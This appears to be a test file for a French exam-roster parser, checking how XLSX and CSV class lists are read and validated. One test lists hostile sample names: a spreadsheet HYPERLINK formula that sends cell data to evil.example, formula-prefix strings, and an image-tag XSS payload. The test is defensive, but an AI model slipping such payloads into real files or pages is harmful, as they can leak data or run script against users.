/** Expected outcomes on the shared roster fixtures, one by one. */
import { decodeText, parseCsv, parseRoster, parseRosterSheets, rosterIsUsable } from '../../../core/roster';
import type { RosterResult } from '../../../core/roster';
import { loadXlsxFixture, readRosterFixtureBytes } from '../../helpers/fixtures';

async function xlsxRoster(name: string, sheet?: string): Promise<RosterResult> {
  return parseRosterSheets(await loadXlsxFixture(name), { sheet });
}

function csvRoster(name: string): RosterResult {
  return parseRoster(parseCsv(decodeText(readRosterFixtureBytes(name))), name);
}

describe('classe-ndrc2-ccf.xlsx (CCF class list under a title block)', () => {
  let result: RosterResult;
  beforeAll(async () => {
    result = await xlsxRoster('classe-ndrc2-ccf.xlsx');
  });

  it('finds the header on row 4 below the two title rows, with its six columns', () => {
    expect(result.sheet).toBe('Classe NDRC2');
    expect(result.header?.row).toBe(4);
    const found = Object.fromEntries(
      Object.entries(result.header?.columns ?? {}).map(([f, c]) => [f, c?.index]),
    );
    expect(found).toEqual({ number: 0, nom: 1, prenom: 2, birthDate: 3, division: 4, email: 5 });
    expect(result.header?.columns.email?.label).toBe('Mél');
  });

  it('reads 32 candidates, skipping the blank row 25, without any problem', () => {
    expect(result.candidates).toHaveLength(32);
    expect(result.candidates.map((c) => c.row)).not.toContain(25);
    expect(result.candidates.map((c) => c.row)).toEqual(expect.arrayContaining([24, 26, 37]));
    expect(result.problems).toEqual([]);
    expect(rosterIsUsable(result)).toBe(true);
  });

  it('reads every field of a candidate, the birth date as ISO', () => {
    expect(result.candidates[0]).toEqual({
      row: 5,
      number: '02600007919',
      nom: 'CHEVALIER',
      prenom: 'Chloé',
      birthDate: '2004-01-01',
      division: 'BTS NDRC2 A',
      email: 'chloe.chevalier@eleve.example.fr',
    });
  });

  it('keeps the leading zero of every number stored as text', () => {
    for (const c of result.candidates) expect(c.number).toMatch(/^0\d{10}$/);
  });

  it('keeps the two MARTIN Léa homonyms apart by number and birth date', () => {
    const martins = result.candidates.filter((c) => c.nom === 'MARTIN' && c.prenom === 'Léa');
    expect(martins).toHaveLength(2);
    expect(martins[0].number).not.toBe(martins[1].number);
    expect(martins[0].birthDate).not.toBe(martins[1].birthDate);
  });
});

describe('centre-ponctuel-600.xlsx (exam centre list)', () => {
  let result: RosterResult;
  beforeAll(async () => {
    result = await xlsxRoster('centre-ponctuel-600.xlsx');
  });

  it('reads the 600 candidates of the « Candidats » sheet without any problem', () => {
    expect(result.sheet).toBe('Candidats');
    expect(result.candidates).toHaveLength(600);
    expect(result.problems).toEqual([]);
  });

  it('reads commission, établissement and the passage as French date and time', () => {
    expect(result.candidates[0]).toEqual({
      row: 2,
      number: '02600007919',
      nom: 'PERRIN',
      prenom: 'François-Xavier',
      etablissement: 'CFA Commerce',
      commission: 'C01',
      passage: '18/05/2026 15:30',
    });
    expect(result.candidates[599]).toMatchObject({
      row: 601,
      nom: 'MÜLLER',
      prenom: 'Nathan',
      passage: '19/05/2026 13:30',
    });
  });

  it('reads the same sheet when it is named, and reports a named sheet that is absent', async () => {
    expect((await xlsxRoster('centre-ponctuel-600.xlsx', 'Candidats')).candidates).toHaveLength(600);
    const absent = await xlsxRoster('centre-ponctuel-600.xlsx', 'Inscrits');
    expect(absent.problems).toEqual([
      expect.objectContaining({ severity: 'erreur', code: 'feuille-absente' }),
    ]);
    expect(absent.problems[0].message).toContain('« Candidats »');
  });

  it('gives every candidate a distinct number', () => {
    expect(new Set(result.candidates.map((c) => c.number)).size).toBe(600);
  });
});

describe('export-vie-scolaire.csv (UTF-8 BOM, combined « Élève » column, no numbers)', () => {
  const result = csvRoster('export-vie-scolaire.csv');

  it('reads the 28 pupils with the combined column split into NOM and Prénom', () => {
    expect(result.candidates).toHaveLength(28);
    expect(result.header?.columns.nomPrenom?.label).toBe('Élève');
    expect(result.candidates[0]).toEqual({
      row: 2,
      number: '',
      nom: 'ROUX',
      prenom: 'Aïcha',
      birthDate: '2004-01-01',
      division: 'BTS NDRC 2',
    });
    const names = result.candidates.map((c) => [c.nom, c.prenom]);
    expect(names).toContainEqual(["DE SAINT-EXUPÉRY D'AGAY-MONTMORENCY", 'Marie-Clémentine']);
    expect(names).toContainEqual(["N'DIAYE", 'Yanis']);
    expect(names).toContainEqual(['LAURENT', 'François-Xavier']);
  });

  it('gives one warning for the whole roster about the missing number column', () => {
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]).toMatchObject({ severity: 'avertissement', code: 'colonne-numero-absente' });
    expect(result.problems[0].message).toContain('28 candidats');
    expect(rosterIsUsable(result)).toBe(true);
  });
});

describe('bad fixtures', () => {
  it('vide.xlsx: an error « aucun candidat »', async () => {
    const result = await xlsxRoster('bad/vide.xlsx');
    expect(result.candidates).toEqual([]);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0].severity).toBe('erreur');
    expect(result.problems[0].message).toMatch(/aucun candidat/i);
    expect(rosterIsUsable(result)).toBe(false);
  });

  it('sans-en-tete.xlsx: an error listing the headers looked for', async () => {
    const result = await xlsxRoster('bad/sans-en-tete.xlsx');
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]).toMatchObject({ severity: 'erreur', code: 'en-tete-absent', sheet: 'Feuil1' });
    for (const label of ['N° candidat', 'NOM', 'Prénom', 'Élève', 'Date de naissance', 'Mél']) {
      expect(result.problems[0].message).toContain(`« ${label}`);
    }
    expect(rosterIsUsable(result)).toBe(false);
  });

  it('numeros-en-double.xlsx: an error naming 02600007919 and rows 2 and 4', async () => {
    const result = await xlsxRoster('bad/numeros-en-double.xlsx');
    const errors = result.problems.filter((p) => p.severity === 'erreur');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: 'numero-en-double', row: 4, column: 'A', sheet: 'Classe' });
    expect(errors[0].message).toContain('02600007919');
    expect(errors[0].message).toContain('lignes 2 et 4');
    expect(errors[0].message).toContain('PETIT Jade, LEROY Inès');
    expect(rosterIsUsable(result)).toBe(false);
  });

  it('injection-formules.csv: 5 candidates, no error, every name kept verbatim', () => {
    const result = csvRoster('bad/injection-formules.csv');
    expect(result.problems).toEqual([]);
    expect(result.candidates.map((c) => c.nom)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1;"clic")',
      '+33612345678',
      '@SUM(1+1)',
      '-2+3',
      '<img src=x onerror=alert(1)>',
    ]);
    expect(result.candidates.map((c) => c.number)).toEqual([
      '02600001',
      '02600002',
      '02600003',
      '02600004',
      '02600005',
    ]);
  });
});
